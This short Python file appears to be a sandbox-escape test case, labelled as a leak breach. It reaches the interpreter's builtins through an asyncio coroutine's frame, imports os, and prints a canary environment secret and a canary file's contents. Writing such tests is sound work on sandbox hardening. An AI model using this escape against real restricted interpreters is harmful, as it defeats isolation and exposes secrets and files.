# Coroutine cr_frame.f_builtins of a coroutine from an allowed module.
# breach: leak
import asyncio
c = asyncio.sleep(0)
b = c.cr_frame.f_builtins
c.close()
o = b['__import__']('os')
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
